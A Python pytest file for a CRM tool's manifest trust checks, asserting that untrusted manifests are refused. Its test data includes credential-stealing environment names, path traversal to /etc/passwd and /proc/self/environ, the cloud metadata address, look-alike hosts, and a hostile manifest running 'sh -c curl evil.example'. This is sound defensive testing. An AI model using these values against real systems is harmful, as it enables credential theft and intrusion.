"""A manifest is untrusted input: what it reaches for is refused with exit 3 and the exact line that would allow it."""

from __future__ import annotations

import textwrap
from collections.abc import Callable
from pathlib import Path

import pytest

from crmstate.core.diagnostic import Problem
from crmstate.core.words import Exit
from crmstate.manifest.load import Loaded
from crmstate.manifest.operator import Operator, load_operator
from crmstate.manifest.trust import is_loopback, refusals, require_trust

from .conftest import Write

Load = Callable[..., Loaded]
EMPTY = "end_state: {}\n"


def real(credentials: str = "{read: {token: {env: CRMSTATE_T}}}", more: str = "") -> str:
    return f"provider:\n  name: zoho\n  tenant: '1'\n  credentials: {credentials}\n{textwrap.indent(more, '  ')}"


def refused(
    loaded: Loaded,
    operator: Operator | None = None,
    env: tuple[str, ...] = ("ZOHO_",),
    hosts: tuple[str, ...] = ("*.zoho.eu",),
) -> list[str]:
    return [each.code for each in refusals(loaded, operator or Operator(), env, hosts)]


def one(kind: str) -> str:
    return f"{{read: {{token: {{{kind}}}}}}}"


@pytest.mark.parametrize("name", ["CRMSTATE_TOKEN", "ZOHO_SECRET"])
def test_our_own_names_and_the_providers_are_allowed(name: str, loaded: Load) -> None:
    assert refused(loaded(EMPTY, real(one(f"env: {name}")))) == []


@pytest.mark.parametrize(
    "name", ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "HOME", "ZOH", "zoho_secret", "XCRMSTATE_T", "CRMSTATE_OPERATOR"]
)
def test_other_names_are_refused(name: str, loaded: Load) -> None:
    (found,) = refusals(loaded(EMPTY, real(one(f"env: {name}"))), Operator(), ("ZOHO_",))
    assert ("CRM-M120", name, f'allow_env = ["{name}"]') == (found.code, found.params["name"], found.params["allow"])


def test_an_empty_prefix_allows_nothing(loaded: Load) -> None:
    assert refused(loaded(EMPTY, real(one("env: HOME"))), env=("",)) == ["CRM-M120"]


def test_the_operator_allows_names_by_pattern(loaded: Load) -> None:
    assert refused(loaded(EMPTY, real(one("env: VAULT_CRM"))), Operator(allow_env=("VAULT_*",))) == []


@pytest.mark.parametrize("path", ["token.txt", "secrets/token.txt", "a/../token.txt", "./token.txt"])
def test_files_inside_the_folder_are_allowed(path: str, loaded: Load) -> None:
    assert refused(loaded(EMPTY, real(one(f"file: {path}")))) == []


@pytest.mark.parametrize(
    "path", ["../../etc/passwd", "/etc/passwd", "a/../../x", "..", ".git/config", "/proc/self/environ"]
)
def test_files_outside_the_folder_are_refused(path: str, loaded: Load) -> None:
    assert refused(loaded(EMPTY, real(one(f"file: {path}")))) == ["CRM-M121"]


def test_a_link_that_leads_outside_is_refused(loaded: Load, tmp_path: Path) -> None:
    (tmp_path / "token.txt").symlink_to("/etc/passwd")
    (tmp_path / "folder").symlink_to("/etc")
    assert refused(loaded(EMPTY, real(one("file: token.txt")))) == ["CRM-M121"]
    assert refused(loaded(EMPTY, real(one("file: folder/passwd")))) == ["CRM-M121"]


def test_a_link_in_a_circle_is_refused(loaded: Load, tmp_path: Path) -> None:
    (tmp_path / "a").symlink_to(tmp_path / "b")
    (tmp_path / "b").symlink_to(tmp_path / "a")
    assert refused(loaded(EMPTY, real(one("file: a")))) in (["CRM-M121"], [])


def test_the_operator_allows_a_folder(loaded: Load, tmp_path_factory: pytest.TempPathFactory) -> None:
    folder = tmp_path_factory.mktemp("secrets")
    assert refused(loaded(EMPTY, real(one(f"file: {folder}/token"))), Operator(allow_files=(str(folder),))) == []
    assert refused(loaded(EMPTY, real(one(f"file: {folder}-other/token"))), Operator(allow_files=(str(folder),))) == [
        "CRM-M121"
    ]


def test_a_command_is_refused_unless_the_whole_line_is_allowed(loaded: Load) -> None:
    manifest = loaded(EMPTY, real(one("command: [pass, show, crm/zoho]")))
    (found,) = refusals(manifest, Operator())
    assert (found.code, found.params["allow"]) == ("CRM-M122", 'allow_commands = ["pass show crm/zoho"]')
    assert refused(manifest, Operator(allow_commands=("pass show crm/zoho",))) == []
    assert refused(manifest, Operator(allow_commands=("pass",))) == ["CRM-M122"]


def test_a_keyring_is_refused_unless_allowed(loaded: Load) -> None:
    manifest = loaded(EMPTY, real(one("keyring: crm/zoho")))
    assert refused(manifest) == ["CRM-M123"]
    assert refused(manifest, Operator(allow_keyring=("crm/*",))) == []


@pytest.mark.parametrize(
    "url",
    ["http://127.0.0.1:8000", "http://localhost:1", "http://[::1]:8000", "https://crm.zoho.eu", "https://CRM.Zoho.EU"],
)
def test_this_machine_and_the_providers_own_hosts_are_allowed(url: str, loaded: Load) -> None:
    assert refused(loaded(EMPTY, real(more=f"url: {url}\n"))) == []


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example",
        "https://crm.zoho.eu.evil.example",
        "https://127.0.0.1.evil.example",
        "https://zoho.eu",
        "http://169.254.169.254",
        "https://[2001:db8::1]",
        "https://localhost.evil.example",
        "http://0.0.0.0:80",
    ],
)
def test_other_hosts_are_refused(url: str, loaded: Load) -> None:
    assert refused(loaded(EMPTY, real(more=f"url: '{url}'\n"))) == ["CRM-M124"]


def test_credentials_do_not_travel_unencrypted(loaded: Load) -> None:
    manifest = loaded(EMPTY, real(more="url: http://crm.zoho.eu\n"))
    assert refused(manifest) == ["CRM-M128"]
    assert refused(manifest, Operator(allow_hosts=("http://crm.zoho.eu",))) == []


def test_only_this_machines_own_names_are_loopback() -> None:
    assert [is_loopback(host) for host in ("localhost", "127.8.8.8", "::1", "127.1", "localhost.local")] == [
        True,
        True,
        True,
        False,
        False,
    ]


def test_a_simulated_vendors_file_lies_beside_the_manifest(loaded: Load) -> None:
    assert refused(loaded(EMPTY, "provider: {name: sandbox, embedded: ../other.db}\n")) == ["CRM-M125"]
    assert refused(loaded(EMPTY)) == []


@pytest.mark.parametrize(
    "place",
    ["/var/www/html", "file:///var/www/html", "s3://somebody-elses-bucket/x", "file://localhost/srv"],
)
def test_customers_data_is_not_written_wherever_a_pull_request_likes(place: str, loaded: Load) -> None:
    assert refused(loaded(f"end_state: {{data: {{archive: {{to: '{place}'}}}}}}\n")) == ["CRM-M126"]


def test_the_operator_allows_a_bucket_and_a_folder(loaded: Load) -> None:
    bucket = loaded("end_state: {data: {archive: {to: s3://acme-archives/zoho}}}\n")
    assert refused(bucket, Operator(allow_hosts=("s3://acme-archives",))) == []
    folder = loaded("end_state: {data: {archive: {to: /srv/archives/zoho}}}\n")
    assert refused(folder, Operator(allow_files=("/srv/archives",))) == []


def test_lists_of_recipients_lie_beside_the_manifest(loaded: Load) -> None:
    notice = "notices:\n  - {to: staff, channel: mail, recipients: {file: ../hr/everybody.csv}, send: 2026-12-01}\n"
    assert refused(loaded(notice + EMPTY)) == ["CRM-M121"]


def test_a_robots_address_and_an_identity_are_secrets_too(loaded: Load) -> None:
    notice = "notices:\n  - {to: staff, channel: webhook, url: {env: DEPLOY_KEY}, send: 2026-12-01}\n"
    archive = "end_state: {data: {archive: {to: ./a, identity: {env: SSH_KEY}}}}\n"
    assert refused(loaded(notice + archive)) == ["CRM-M120", "CRM-M120"]


HOSTILE = """\
provider:
  name: zoho
  tenant: '1'
  url: https://collector.example
  credentials:
    read: {a: {env: AWS_SECRET_ACCESS_KEY}, b: {file: ../../etc/passwd}, c: {command: [sh, -c, curl evil.example]}}
    write: {a: {keyring: login/chrome}}
"""


def test_a_hostile_pull_request_is_refused_for_every_one_of_its_tricks_at_once(loaded: Load) -> None:
    manifest = loaded("end_state: {data: {archive: {to: s3://collector/x}}}\n", HOSTILE)
    with pytest.raises(Problem) as caught:
        require_trust(manifest, Operator(), ("ZOHO_",), ("*.zoho.eu",))
    assert caught.value.exit == Exit.REFUSED
    expected = ["CRM-M120", "CRM-M121", "CRM-M122", "CRM-M123", "CRM-M124", "CRM-M126"]
    assert expected == sorted(each.code for each in caught.value.diagnostics)
    assert all(each.span for each in caught.value.diagnostics)


def test_every_refusal_names_the_operators_file(loaded: Load, tmp_path: Path) -> None:
    path = tmp_path / "operator.toml"
    path.write_text('allow_env = ["X_*"]\n')
    for found in refusals(loaded(EMPTY, HOSTILE), load_operator(path)):
        assert str(path) == found.params["operator"]


def test_the_operators_file_is_found_by_its_variable(tmp_path: Path) -> None:
    path = tmp_path / "operator.toml"
    path.write_text('allow_env = ["X_*"]\nallow_hosts = ["crm.example.com"]\n')
    operator = load_operator(None, {"CRMSTATE_OPERATOR": str(path)})
    assert (operator.allow_env, operator.allow_hosts) == (("X_*",), ("crm.example.com",))
    assert Operator() == load_operator(None, {})


@pytest.mark.parametrize(
    "text", ["allow_env = 'X'", "alow_env = ['X']", "allow_env = [1]", "allow_env = [''", "allow_env = ['']"]
)
def test_an_operators_file_that_cannot_be_understood_allows_nothing(text: str, tmp_path: Path) -> None:
    path = tmp_path / "operator.toml"
    path.write_text(text)
    with pytest.raises(Problem) as caught:
        load_operator(path)
    assert (caught.value.exit, caught.value.diagnostics[0].code) == (Exit.REFUSED, "CRM-M127")


def test_an_operators_file_that_is_named_and_missing_is_a_problem(tmp_path: Path) -> None:
    with pytest.raises(Problem) as caught:
        load_operator(tmp_path / "none.toml")
    assert caught.value.exit == Exit.REFUSED


def test_the_line_that_would_allow_it_is_toml_whatever_the_name(write: Write, loaded: Load) -> None:
    import tomllib

    manifest = loaded(EMPTY, real(one('command: [echo, \'"x"\', "a\'b"]')))
    (found,) = refusals(manifest, Operator())
    table = tomllib.loads(str(found.params["allow"]))
    assert refused(manifest, Operator(allow_commands=tuple(table["allow_commands"]))) == []
